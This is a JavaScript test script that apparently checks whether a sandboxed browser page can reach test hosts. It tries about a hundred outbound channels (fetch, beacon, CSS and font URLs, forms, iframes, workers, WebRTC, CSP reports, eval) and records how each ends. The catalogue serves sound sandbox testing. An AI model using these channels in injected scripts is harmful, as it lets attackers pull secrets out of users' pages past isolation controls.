// Every way in which a script that got into the page could try to send something to `args.hosts`, each tried once at
// each host. Goes on being asked until all that can be waited for has ended, and then says how each way ended.

const put = (tag, attributes = {}, parent = document.body) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.append(element);
  return element;
};
const svg = (tag, url) => {
  const drawing = document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"));
  const element = drawing.appendChild(document.createElementNS("http://www.w3.org/2000/svg", tag));
  element.setAttribute("href", url);
  element.setAttributeNS("http://www.w3.org/1999/xlink", "xlink:href", url);
  return element;
};
const style = (text) => (put("style", {}, document.head).textContent = text);
const link = (rel, url, more = {}) => put("link", { rel, href: url, ...more }, document.head);
const heard = (target) =>
  new Promise((resolve) => {
    for (const event of ["load", "error", "abort", "open", "message", "close"])
      target.addEventListener(event, () => resolve(event), { once: true });
  });
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const clicked = (attributes) => put("a", attributes).click();
const submitted = (attributes) => {
  const form = put("form", attributes);
  put("input", { name: "secret", value: "leak" }, form);
  form.submit();
};
const peer = async (server) => {
  const connection = new RTCPeerConnection({ iceServers: [server] });
  connection.createDataChannel("leak");
  await connection.setLocalDescription(await connection.createOffer());
};

const ways = (http, ws, host) => ({
  fetch: () => fetch(http, { method: "POST", body: "leak" }),
  "fetch without cors": () => fetch(http, { mode: "no-cors" }),
  "fetch kept alive": () => fetch(http, { keepalive: true, method: "POST", body: "leak" }),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    request.open("POST", http);
    request.send("leak");
    return heard(request);
  },
  WebSocket: () => heard(new WebSocket(ws)),
  EventSource: () => heard(new EventSource(http)),
  beacon: () => navigator.sendBeacon(http, "leak"),
  image: () => heard(put("img", { src: http })),
  "image of a set": () => heard(put("img", { srcset: `${http} 2x` })),
  "image of an input": () => put("input", { type: "image", src: http }),
  "new Image": () => (new Image().src = http),
  "style sheet": () => heard(link("stylesheet", http)),
  "alternate style sheet": () => link("alternate stylesheet", http),
  "style import": () => style(`@import "${http}";`),
  "style url": () => style(`body { background-image: url("${http}"); cursor: url("${http}"), auto; }`),
  "style content": () => style(`body::after { content: url("${http}"); mask-image: url("${http}"); }`),
  "style attribute": () => put("div", { style: `background: url("${http}"); width: 9px; height: 9px` }),
  "style by script": () => {
    const box = put("div");
    box.style.width = box.style.height = "9px";
    box.style.backgroundImage = box.style.listStyleImage = box.style.borderImageSource = `url("${http}")`;
  },
  "style sheet by script": () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url("${http}") }`);
    document.adoptedStyleSheets = [sheet];
  },
  font: () => style(`@font-face { font-family: Leak; src: url("${http}"); } body { font-family: Leak; }`),
  "font by script": () => new FontFace("Leak", `url("${http}")`).load(),
  form: () => submitted({ action: http, method: "get" }),
  "form that posts": () => submitted({ action: http, method: "post" }),
  "form to a new window": () => submitted({ action: http, method: "post", target: "_blank" }),
  "form to a frame": () => {
    put("iframe", { name: "leak" });
    submitted({ action: http, method: "post", target: "leak" });
  },
  location: () => (location.href = http),
  "location.assign": () => location.assign(http),
  "location.replace": () => location.replace(http),
  "javascript location": () => (location.href = "javascript:window.scriptRan='location'"),
  "meta refresh": () => put("meta", { "http-equiv": "refresh", content: `0; url=${http}` }, document.head),
  "window.open": () => window.open(http),
  "window.open in place": () => window.open(http, "_self"),
  "link clicked": () => clicked({ href: http }),
  "link to a new window": () => clicked({ href: http, target: "_blank" }),
  "link that pings": () => clicked({ href: "#", ping: http }),
  download: () => clicked({ href: http, download: "leak" }),
  iframe: () => heard(put("iframe", { src: http })),
  "iframe with a document": () => put("iframe", { srcdoc: `<img src="${http}"><link rel=preconnect href="${http}">` }),
  "iframe of data": () => put("iframe", { src: `data:text/html,<img src="${http}">` }),
  "iframe of a blob": () => put("iframe", { src: blob(`<img src="${http}">`, "text/html") }),
  "empty iframe": () => put("iframe").contentWindow.fetch(http),
  object: () => put("object", { data: http }),
  embed: () => put("embed", { src: http }),
  frame: () => put("frame", { src: http }, put("frameset")),
  worker: () => heard(new Worker(http)),
  "worker of a blob": () => heard(new Worker(blob(`importScripts("${http}"); fetch("${http}")`, "text/javascript"))),
  "worker of data": () => heard(new Worker(`data:text/javascript,fetch("${http}")`)),
  "shared worker": () => new SharedWorker(http),
  "service worker": () => navigator.serviceWorker.register(http),
  "service worker of a blob": () => navigator.serviceWorker.register(blob(`fetch("${http}")`, "text/javascript")),
  worklet: () => new AudioContext().audioWorklet.addModule(http),
  "paint worklet": () => CSS.paintWorklet.addModule(http),
  "dynamic import": () => import(http),
  "dynamic import of data": () => import(`data:text/javascript,fetch("${http}")`),
  script: () => heard(put("script", { src: http })),
  "module script": () => heard(put("script", { src: http, type: "module" })),
  "import map": () => (put("script", { type: "importmap" }).textContent = `{"imports":{"leak":"${http}"}}`),
  prefetch: () => link("prefetch", http),
  "prefetch of a script": () => link("prefetch", http, { as: "script" }),
  prerender: () => link("prerender", http),
  preconnect: () => link("preconnect", http),
  "preconnect with credentials": () => link("preconnect", http, { crossorigin: "use-credentials" }),
  "dns-prefetch": () => link("dns-prefetch", http),
  preload: () => ["image", "script", "style", "font", "fetch", "track"].map((as) => link("preload", http, { as })),
  modulepreload: () => link("modulepreload", http),
  icon: () => link("icon", http),
  "touch icon": () => link("apple-touch-icon", http),
  manifest: () => link("manifest", http),
  import: () => link("import", http),
  "speculation rules": () =>
    (put("script", { type: "speculationrules" }).textContent = `{"prefetch":[{"source":"list","urls":["${http}"]}]}`),
  audio: () => heard(put("audio", { src: http, preload: "auto" })),
  video: () => heard(put("video", { src: http, preload: "auto", poster: http })),
  source: () => put("source", { src: http }, put("video", { preload: "auto" })),
  track: () => put("track", { src: http, kind: "captions", default: "" }, put("video")),
  "svg image": () => svg("image", http),
  "svg use": () => svg("use", `${http}#leak`),
  "svg filter image": () => svg("feImage", http),
  "svg script": () => svg("script", http),
  "background attribute": () => put("table", { background: http }),
  base: () => {
    const base = put("base", { href: http }, document.head);
    put("img", { src: "leak.png" });
    base.remove();
  },
  "style sheet of a document": () => {
    const sheet = document.createProcessingInstruction("xml-stylesheet", `href="${http}" type="text/xsl"`);
    document.insertBefore(sheet, document.documentElement);
  },
  "policy that reports": () =>
    put("meta", { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${http}` }, document.head),
  "markup with a handler": () => (put("div").innerHTML = `<img src="${http}" onerror="window.scriptRan='handler'">`),
  "inline script": () => (put("script").textContent = `window.scriptRan = "inline"; fetch("${http}")`),
  "script link": () => clicked({ href: "javascript:window.scriptRan='link'" }),
  eval: () => window.eval(`window.scriptRan = "eval"; fetch("${http}")`),
  Function: () => new Function(`window.scriptRan = "Function"; fetch("${http}")`)(),
  "timer with text": () => window["setTimeout"](`window.scriptRan = "timer"; fetch("${http}")`, 0),
  "peer connection": () => peer({ urls: `stun:${host}` }),
  "peer connection over tcp": () => peer({ urls: `turn:${host}?transport=tcp`, username: "leak", credential: "leak" }),
  WebTransport: () => new WebTransport(http.replace("http:", "https:")).ready,
  notification: () => new Notification("leak", { icon: http }),
  "media session": () =>
    (navigator.mediaSession.metadata = new MediaMetadata({ title: "leak", artwork: [{ src: http }] })),
  share: () => navigator.share({ url: http }),
  "protocol handler": () => navigator.registerProtocolHandler("web+leak", `${http}?%s`, "leak"),
});

if (!window.waysOut) {
  window.waysOut = { ended: {}, open: 0 };
  const end = (name, how) => {
    window.waysOut.ended[name] = String(how).slice(0, 120);
    window.waysOut.open -= 1;
  };
  for (const host of args.hosts) {
    for (const [scheme, socket] of [["http", "ws"], ["https", "wss"]]) {
      for (const [name, go] of Object.entries(ways(`${scheme}://${host}/leak?secret=1`, `${socket}://${host}/`, host))) {
        const known = `${name} to ${scheme}://${host}`;
        window.waysOut.open += 1;
        try {
          Promise.race([Promise.resolve(go()), heard(AbortSignal.timeout(1500))]).then(
            (how) => end(known, how),
            (error) => end(known, error),
          );
        } catch (error) {
          end(known, error);
        }
      }
    }
  }
}
return window.waysOut.open === 0 && { ended: window.waysOut.ended, scriptRan: window.scriptRan ?? null, href: location.href };
